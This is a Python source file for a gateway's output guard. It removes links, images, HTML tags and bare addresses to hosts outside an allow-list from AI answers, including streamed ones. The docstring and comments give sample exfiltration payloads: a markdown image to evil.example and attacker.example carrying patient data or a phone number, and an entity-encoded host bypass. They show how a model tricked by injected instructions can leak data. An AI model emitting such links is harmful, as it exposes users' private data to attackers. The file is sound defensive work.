"""Output guard against exfiltration through links: a model that was tricked into writing
``![x](https://evil.example/?q=<patient data>)`` leaks the data the moment a chat widget renders the
image, without anyone clicking. Every address in the answer whose host is not on the app's allow-list
is removed, in plain and streamed answers:

- markdown images and links (a link keeps its text; titles in any quotes, ``<...>`` addresses), link
  reference definitions, and HTML ``img``/``a``/``iframe``/... tags go whole;
- then every absolute (``https://``), protocol-relative (``//host``) or backslash-prefixed (``\\\\host``,
  ``/\\host``: browsers read ``\\`` as ``/``) address and ``www.`` name left anywhere in the text,
  autolinks and bare URLs included, is removed, whatever construct it sits in.

With re-identification on, the conversation's placeholders are judged by the values they will become:
``![a]([URL_1]?d=[PHONE_1])`` is judged as ``https://attacker.example/c?d=415-555-0134``.

Streaming: text that may be the start of a link (an open ``[``, a tag, the trailing word, which may be an
address still growing) is held back until it is decided, so a link split across chunks is judged whole.
Nothing is held for longer than ``MAX_HOLD`` characters; an address cut there is judged by its start (the
released text's last ``_TAIL`` characters are kept as context), so its host is never judged on a fragment.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterable, Mapping
from urllib.parse import urlsplit

from phigate.backends.base import Body
from phigate.guards.output import record
from phigate.pipeline import RequestContext

MAX_HOLD = 2048
_TEXT = 500  # longest link text taken for a markdown link
_URL = 1500  # longest address taken for a markdown link (longer ones are removed by the address sweep)
_TAIL = 300  # released text kept as context: a scheme and the longest host name

_TITLE = r"(?:\"[^\"\n]{0,500}\"|'[^'\n]{0,500}'|\([^)\n]{0,500}\))"
_MD = re.compile(
    rf"(!?)\[([^\]\n]{{0,{_TEXT}}})\]\(\s*(?:<([^>\n]{{0,{_URL}}})>|([^\s)]{{1,{_URL}}}))(?:\s+{_TITLE})?\s*\)"
)
_REF = re.compile(
    rf"^ {{0,3}}\[[^\]\n]{{1,{_TEXT}}}\]:[ \t]*\n?[ \t]*(?:<([^>\n]{{0,{_URL}}})>|(\S{{1,{_URL}}}))"
    rf"(?:[ \t]+{_TITLE})?[ \t]*$",
    re.MULTILINE,
)
_HTML = re.compile(
    r"<(img|a|iframe|image|source|video|audio)\b[^>]{0,1500}?\b(?:src|href)\s*=\s*[\"']?([^\"'\s>]+)[^>]{0,1500}>",
    re.IGNORECASE,
)
# An address anywhere: a scheme with two slashes (either way round), a protocol-relative or backslash
# start that no word or path runs into, or a www. name; it runs to whitespace, a quote or an angle bracket.
_ADDRESS = (
    r"(?:(?<![\w+.-])[a-zA-Z][a-zA-Z0-9+.-]{0,30}:[/\\]{2}|(?<![\w.~%/\\-])[/\\]{2}(?=[^\s/\\])|"
    r"(?<![\w.@/\\-])www\.(?=\w))[^\s<>\"'`]*"
)
_SWEEP = re.compile(rf"<?({_ADDRESS})>?")
# the rest of a markdown link that is not complete yet but may still become one
_PARTIAL = re.compile(
    r"\(\s*(?:<[^>\n]*>?|[^\s)]*)(?:\s+(?:\"[^\"\n]*\"?|'[^'\n]*'?|\([^)\n]*\)?)?)?\s*"
)
_MD_START = re.compile(r"!?\[")
_TAGS = ("img", "a", "iframe", "image", "source", "video", "audio")
_WORD_ENDS = " \n\t\r\f\v<>\"'`"  # what ends an address (other white space is rare enough to hold past)
_LAST_END = re.compile(r"[ \n\t\r\f\v<>\"'`](?=[^ \n\t\r\f\v<>\"'`]*\Z)")


def _host(url: str) -> str | None:
    """The host ``url`` sends a browser to ("" when it cannot be told), or None for a relative address."""
    url = url.strip().replace("\\", "/")
    if url.lower().startswith("www."):
        url = "//" + url
    try:
        parts = urlsplit(url)
        host = parts.hostname
    except ValueError:
        return ""
    if parts.scheme in ("", "mailto", "tel") and not url.startswith("//"):
        return None  # relative links and mail/tel links carry nothing to another host
    return (host or "").lower()


class LinkFilter:
    """An ``AnswerFilter`` that strips links, images and addresses to hosts outside ``allow`` (``*.example``
    allows sub-domains). ``values`` maps this conversation's placeholders to what re-identification puts
    back; an address is judged with them replaced. ``stripped`` counts what it removed, for the ledger."""

    def __init__(
        self,
        allow: Iterable[str] = (),
        on_strip: Callable[[], None] | None = None,
        values: Mapping[str, str] | None = None,
    ) -> None:
        self._exact = {a.lower() for a in allow if not a.startswith("*.")}
        self._suffixes = tuple(a.lower()[1:] for a in allow if a.startswith("*."))
        self._held: dict[str, str] = {}
        self._tail: dict[str, str] = {}
        self._on_strip = on_strip
        self.stripped = 0
        self._values = {k: v for k, v in (values or {}).items() if k and v}
        self._sweep = _SWEEP
        self._tokens: re.Pattern[str] | None = None
        if self._values:
            keys = "|".join(map(re.escape, sorted(self._values, key=len, reverse=True)))
            self._tokens = re.compile(keys)
            # a placeholder may stand for a whole address: one followed by address characters is swept too
            self._sweep = re.compile(rf"<?({_ADDRESS}|(?:{keys})[^\s<>\"'`]*)>?")

    def _strip(self) -> None:
        self.stripped += 1
        if self._on_strip is not None:
            self._on_strip()

    def _resolve(self, url: str) -> str:
        if self._tokens is None:
            return url
        return self._tokens.sub(lambda m: self._values[m.group()], url)

    def allowed(self, url: str) -> bool:
        # markdown and HTML decode character references in addresses: "&#47;&#47;evil.example" is "//evil.example"
        host = _host(html.unescape(self._resolve(url)))
        if host is None:
            return True
        return host in self._exact or (bool(host) and host.endswith(self._suffixes))

    def clean(self, text: str, context: str = "") -> str:
        """``text`` with every disallowed link, image and address removed (a link keeps its text).
        ``context`` is text released before it: an address that began there is judged whole."""

        def markdown(m: re.Match[str]) -> str:
            if self.allowed(m.group(3) if m.group(3) is not None else m.group(4)):
                return m.group(0)
            self._strip()
            return "" if m.group(1) else m.group(2)

        def reference(m: re.Match[str]) -> str:
            if self.allowed(m.group(1) if m.group(1) is not None else m.group(2)):
                return m.group(0)
            self._strip()
            return ""

        def tag(m: re.Match[str]) -> str:
            if self.allowed(m.group(2)):
                return m.group(0)
            self._strip()
            return ""

        # each pattern only where its marker occurs: a stream calls this once per small piece
        if "](" in text:
            text = _MD.sub(markdown, text)
        if "]:" in text:
            text = _REF.sub(reference, text)
        if "<" in text:
            text = _HTML.sub(tag, text)
        return self._swept(text, context)

    def _swept(self, text: str, context: str) -> str:
        # an address that began in the context began after its last delimiter (or at an autolink's "<")
        start = _word_start(context, 0)
        context = context[start - 1 if start and context[start - 1] == "<" else start :]
        whole = context + text
        if "/" not in whole and "\\" not in whole and "www." not in whole and self._tokens is None:
            return text
        out: list[str] = []
        last = len(context)
        for m in self._sweep.finditer(whole):
            if m.end() <= len(context) or self._address_allowed(m.group(1)):
                continue
            self._strip()
            out.append(whole[last : max(last, m.start())])
            last = m.end()
        out.append(whole[last:])
        return "".join(out)

    def _address_allowed(self, candidate: str) -> bool:
        # judged with the placeholders replaced; a placeholder that stands for no address is no address
        resolved = self._resolve(candidate)
        return all(self.allowed(a.group()) for a in re.finditer(_ADDRESS, resolved))

    def feed(self, field: str, text: str) -> str:
        buf = self._held.pop(field, "") + text
        cut = self._hold_from(buf)
        if cut < len(buf):
            self._held[field] = buf[cut:]
        return self._release(field, buf[:cut])

    def finish(self, field: str) -> str:
        out = self._release(field, self._held.pop(field, ""))
        self._tail.pop(field, None)
        return out

    def _release(self, field: str, text: str) -> str:
        if not text:
            return ""
        context = self._tail.get(field, "")
        self._tail[field] = (context + text)[-_TAIL:]
        return self.clean(text, context)

    def _may_address(self, buf: str, start: int, end: int) -> bool:
        window = buf[start:end]
        if "/" in window or "\\" in window or "www." in window:
            return True
        return self._tokens is not None and self._tokens.search(buf, start, end + 64) is not None

    def _hold_from(self, buf: str) -> int:
        """Where the text that may still become (part of) a link begins: the earliest open markdown link,
        tag or address, but never more than ``MAX_HOLD`` characters back."""
        floor = max(0, len(buf) - MAX_HOLD)
        # the trailing word may be an address that goes on in the next piece
        hold = _word_start(buf, floor)
        if hold == floor > 0 and self._may_address(buf, max(0, floor - _TAIL), floor):
            # a word longer than the limit is cut, but never inside an address
            for m in self._sweep.finditer(buf, max(0, floor - _TAIL)):
                if m.start() < floor < m.end():
                    hold = m.end()  # released whole: its host is judged whole, and its rest is no address
                    break
                if m.start() >= floor:
                    break
        if hold > floor and buf[hold - 1] == "<":
            hold -= 1  # an autolink's bracket goes with its address
        start = _open_link(buf, floor, hold)
        if start is not None:
            hold = min(hold, start)
        lt = buf.rfind("<", floor)
        if lt != -1 and ">" not in buf[lt:]:
            name = re.match(r"[a-zA-Z]*", buf[lt + 1 :])
            tag = name.group().lower() if name else ""
            if any(t.startswith(tag) or tag.startswith(t) for t in _TAGS):
                hold = min(hold, lt)
        return hold


def _word_start(text: str, floor: int) -> int:
    """Where the trailing word of ``text`` begins (after its last delimiter), but not before ``floor``."""
    near = max(floor, len(text) - 64)  # the trailing word is mostly short: look there first
    m = _LAST_END.search(text, near)
    if m:
        return m.end()
    if near == floor:
        return floor
    return max(floor, max(text.rfind(c, floor, near) for c in _WORD_ENDS) + 1)


def _open_link(buf: str, floor: int, word: int) -> int | None:
    """The earliest ``[`` at or after ``floor`` that may still open a markdown link or reference definition,
    or starts a complete link that runs into the trailing ``word`` (held whole, not cut inside). Each ``[``
    is decided in constant time (plus a bounded match), so an answer full of brackets costs linear time."""
    blank = buf.rfind("\n\n")
    last_newline = buf.rfind("\n")
    for m in _MD_START.finditer(buf, floor):
        start = m.start()
        if start < blank:
            continue  # a paragraph break since: a link does not span one
        link = _MD.match(buf, start)
        if link:
            if link.end() > word:
                return start
            continue
        text_at = m.end()
        close = buf.find("]", text_at, text_at + _TEXT + 1)
        if close == -1:
            newline = buf.find("\n", text_at, text_at + _TEXT + 1)
            if newline == -1 and len(buf) - text_at <= _TEXT:
                return start  # the link text may still close
            continue
        if "\n" in buf[text_at:close]:
            continue
        if close == len(buf) - 1:
            return start  # "(" or ":" may come next
        if buf[close + 1] == ":" and close > last_newline and len(buf) - close <= _URL + 520:
            return start  # a reference definition whose line is not complete yet
        if buf[close + 1] == "(" and len(buf) - close <= _URL + 520 and _PARTIAL.fullmatch(buf, close + 1):
            return start  # the address (or its title) is still coming
    return None


class LinkStage:
    """The pipeline stage for ``LinkFilter``: per app, ``guards: {exfil_links: strip | off}`` and
    ``link_hosts`` (hosts answers may link to, such as the shop's own domain)."""

    name = "exfil_links"

    async def on_request(self, ctx: RequestContext, payload: Body) -> None:
        return None

    def answer_filter(self, ctx: RequestContext) -> LinkFilter | None:
        if ctx.app.guards.get("exfil_links", "strip") == "off" or ctx.route == "embeddings":
            return None
        record(ctx, self.name, "allow")
        values: Mapping[str, str] | None = None
        session = ctx.notes.get("vault_session")
        if ctx.app.reidentify and session is not None:
            values = session.mapping  # what re-identification will put back, judged before it does

        def stripped() -> None:
            record(ctx, self.name, "strip")

        return LinkFilter(ctx.app.link_hosts, on_strip=stripped, values=values)
